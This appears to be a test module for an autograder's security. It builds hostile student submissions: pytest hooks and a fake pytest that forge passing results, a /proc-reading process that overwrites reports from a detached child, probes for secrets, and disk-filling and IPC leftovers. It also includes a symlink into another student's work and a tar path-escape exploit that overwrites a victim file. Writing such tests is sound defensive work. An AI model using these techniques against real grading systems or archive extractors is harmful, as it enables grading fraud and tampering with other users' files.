"""Submissions of the talker assignment written by a student attacking the grader.

Each variant of :func:`variants` is a real attack, mounted against the grader of issue 11:
it tries to gain unearned instructor-test points, to read what it must not, or to leave
something behind on the grading machine. ``HIDDEN`` holds instructor tests that import
rclpy's messages and ament_index_python and start the student's console script, as real
instructor tests do. Every cheater's greeting is wrong: without the cheat, the three
greeting tests fail and only ``test_talker_keeps_running`` can pass.
"""

from __future__ import annotations

from pathlib import Path

from tests.grade import synthetic

HIDDEN = Path(__file__).parent / "fixtures" / "hidden_attack"
HIDDEN_TESTS = 4

RUBRIC = """\
title = "talker assignment under attack"
package = "talker_pkg"
limits = {{ timeout = 120, test_timeout = 60, processes = 128, memory_mb = 1024, output_kb = 64, \
disk_mb = {disk_mb} }}
criteria = [
  {{ kind = "build", points = 1 }},
  {{ kind = "executables", points = 1, names = ["talker"] }},
  {{ kind = "tests", points = 1, min_tests = 1 }},
  {{ kind = "hidden", points = {hidden_points}, path = "{hidden}" }},
]
"""

WRONG = synthetic.GREET.replace("f'Hello, {name}!'", "'Hi'")

PASS_EVERYTHING = """\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = 'passed', None
"""

FAKE_PYTEST = """\
import sys

for argument in sys.argv:
    if argument.startswith('--junit-xml='):
        cases = ''.join(f'<testcase classname="t" name="t{i}"/>' for i in range(99))
        with open(argument.split('=', 1)[1], 'w') as report:
            report.write(f'<testsuites><testsuite>{cases}</testsuite></testsuites>')
sys.exit(0)
"""

SHADOW = """\
import _pytest.python

_pytest.python.Function.runtest = lambda self: None


class String:
    def __init__(self, data=''):
        self.data = data
"""

FORGER = """\
\"\"\"The node: forge the instructor's results from outside pytest, then keep running.\"\"\"

import json
import os
import time

def _forge_files(parent):
    cmdline = open(f'/proc/{parent}/cmdline', 'rb').read().split(b'\\0')
    paths = [a.split(b'=', 1)[1].decode() for a in cmdline if a.startswith(b'--junit-xml=')]
    cases = ''.join(f'<testcase classname="t" name="t{i}"/>' for i in range(99))
    for path in paths:
        if os.fork() == 0:  # a double-forked watcher outlives the test
            os.setsid()
            if os.fork() == 0:
                while os.path.exists(f'/proc/{parent}'):
                    time.sleep(0.05)
                with open(path, 'w') as report:
                    report.write(f'<testsuites><testsuite>{cases}<testcase classname="t" '
                                 'name="last"><failure message="x"/></testcase>'
                                 '</testsuite></testsuites>')
            os._exit(0)


def _forge_descriptors(parent):
    ids = [f'test_attack.py::test_greeting_{n}' for n in ('format', 'keeps_spaces',
                                                          'fits_a_message')]
    ids += [f'test_attack.py::t{i}' for i in range(99)]
    records = [{'kind': 'collected', 'ids': ids}]
    records += [{'kind': 'report', 'id': i, 'when': w, 'outcome': 'passed', 'seconds': 0.0}
                for i in ids for w in ('setup', 'call', 'teardown')]
    data = ''.join(json.dumps(r) + '\\n' for r in records).encode()
    for name in os.listdir(f'/proc/{parent}/fd'):
        try:
            fd = os.open(f'/proc/{parent}/fd/{name}', os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, data)
            os.close(fd)
        except OSError:
            pass


def main(args=None):
    parent = os.getppid()
    for forge in (_forge_files, _forge_descriptors):
        try:
            forge(parent)
        except OSError:
            pass
    time.sleep(3600)
"""

SPOOF_PROBE = """\
import sys

print('PKGTOOL-ENTRY-POINT ' + '["talker", ""]', flush=True)
print('PKGTOOL-ENTRY-POINT {"not json', flush=True)
sys.exit(0)
"""

FIFO_REPORT = """\
import os


def pytest_unconfigure(config):
    report = config.option.xmlpath
    if report:
        os.remove(report)
        os.mkfifo(report)
"""


def cheater(**extra: str) -> dict[str, str]:
    """The correct submission with a wrong greeting, plus ``extra`` files."""
    files = synthetic.correct()
    files["talker_pkg/greet.py"] = WRONG
    files["test/test_greet.py"] = "def test_nothing():\n    assert True\n"
    files.update(extra)
    return files


def _setup(*, packages: str = "find_packages(exclude=['test'])", entry: str = "",
           modules: str = "") -> str:
    text = synthetic.SETUP.format(extra_data="").replace(
        "packages=find_packages(exclude=['test'])", f"packages={packages}")
    if modules:
        text = text.replace("    zip_safe=True,", f"    py_modules={modules},\n    zip_safe=True,")
    if entry:
        text = text.replace("        ],\n    }},", f"        ],\n{entry}    }},")
    return text.replace("{{", "{").replace("}}", "}")


def harm(probes: dict[str, str], ipc_key: int) -> dict[str, str]:
    """A correct submission whose own tests look for secrets and try to leave traces.

    ``probes`` name what must stay out of reach (label -> path, or ``socket:<path>``).
    """
    test = f'''\
import ctypes
import os
import socket

PROBES = {probes!r}


def test_nothing_secret_is_reachable():
    seen = []
    for label, target in PROBES.items():
        if target.startswith('socket:'):
            client = socket.socket(socket.AF_UNIX)
            address = target[7:].replace('@', '\\0', 1)
            try:
                client.connect(address)
                seen.append(label)
            except OSError:
                pass
        elif os.path.exists(target):
            seen.append(label)
    jobs = [n for n in os.listdir('/tmp') if n.startswith('pkgtool-job-')]
    assert not seen and len(jobs) <= 1, f'reached: {{seen}}, jobs: {{jobs}}'


def test_where_the_job_runs():
    assert False, f'WORKSPACE {{os.getcwd()}}'


def test_leaves_deep_folders_and_ipc_objects():
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.shmget({ipc_key}, 4096, 0o1600) >= 0
    assert libc.msgget({ipc_key}, 0o1600) >= 0
    assert libc.semget({ipc_key}, 1, 0o1600) >= 0
    folder = os.path.expanduser('~/deep')
    os.makedirs(folder)
    os.chdir(folder)
    for _ in range(3000):
        os.mkdir('d')
        os.chdir('d')


def test_the_disk_is_capped():
    folder = os.path.expanduser('~/fill')
    os.makedirs(folder)
    chunk = b'0' * (8 * 1024 * 1024)
    try:
        for index in range(256):
            with open(os.path.join(folder, str(index)), 'wb') as sink:
                sink.write(chunk)
    except OSError as error:
        assert error.errno == 28, error
        return
    raise AssertionError('wrote 2 GB')
'''
    files = synthetic.correct()
    files["test/test_harm.py"] = test
    return files


def variants(bob: Path) -> dict[str, dict[str, str]]:
    """Every attack (name -> files); ``bob`` is another student's submission folder."""
    del bob  # the symbolic-link attack is built by ``write_link_attack``
    plugin = "        'pytest11': ['cheat = talker_pkg.cheat'],\n"
    return {
        "correct": synthetic.correct(),
        "plugin_entry_point": cheater(**{"talker_pkg/cheat.py": PASS_EVERYTHING,
                                         "setup.py": _setup(entry=plugin)}),
        "sitecustomize": cheater(**{
            "sitecustomize.py": "import os\nos.environ['PYTEST_ADDOPTS'] = "
                                "'-p talker_pkg.cheat'\n",
            "talker_pkg/cheat.py": PASS_EVERYTHING,
            "setup.py": _setup(modules="['sitecustomize']")}),
        "fake_pytest": cheater(**{"pytest/__init__.py": "", "pytest/__main__.py": FAKE_PYTEST,
                                  "setup.py": _setup(packages="['talker_pkg', 'pytest']")}),
        "shadow_std_msgs": cheater(**{"std_msgs/__init__.py": "",
                                      "std_msgs/msg.py": SHADOW,
                                      "setup.py": _setup(
                                          packages="['talker_pkg', 'std_msgs']")}),
        "forger": cheater(**{"talker_pkg/talker.py": FORGER}),
        "spoof_probe": cheater(**{"talker_pkg/talker.py": SPOOF_PROBE}),
        "fifo_report": {**synthetic.correct(), "test/conftest.py": FIFO_REPORT},
        "printing_setup": {**synthetic.correct(), "setup.py": "print('hello from setup.py')\n"
                           + synthetic.correct()["setup.py"]},
    }


def write_link_attack(folder: Path, bob: Path) -> None:
    """A submission holding only a link to ``bob``'s package (what a plain unzip restores)."""
    folder.mkdir(parents=True)
    (folder / "talker_pkg").symlink_to(Path("..") / bob.name)


def write_tar_escape(archive: Path, victim: Path) -> None:
    """The CVE-2025-4517 shape: a chain of long folder names and links whose resolved path
    passes PATH_MAX (so ``os.path.realpath`` stops resolving), then a link through it that
    climbs to ``victim``'s folder, and members written through that link: a new file there
    and a replacement for ``victim``."""
    import io
    import tarfile

    long_name, steps, path = "d" * 247, "abcdefghijklmnop", ""
    with tarfile.open(archive, "w:gz") as tar:
        def add(name: str, kind: bytes, target: str = "", data: bytes = b"") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, target, len(data)
            tar.addfile(info, io.BytesIO(data) if data else None)

        for step in steps:
            add(f"{path}{long_name}", tarfile.DIRTYPE)
            add(f"{path}{step}", tarfile.SYMTYPE, long_name)
            path += f"{long_name}/"
        chain = "/".join(steps) + "/" + "l" * 254
        add(chain, tarfile.SYMTYPE, "../" * len(steps))
        climb = "../" * (len(steps) + 1)  # lexically back to the top, really to /
        add("escape", tarfile.SYMTYPE, f"{chain}/{climb}{str(victim.parent).lstrip('/')}")
        add("escape/written_by_the_archive", tarfile.REGTYPE, data=b"pwned\n")
        add(f"escape/{victim.name}", tarfile.REGTYPE, data=b"pwned\n")
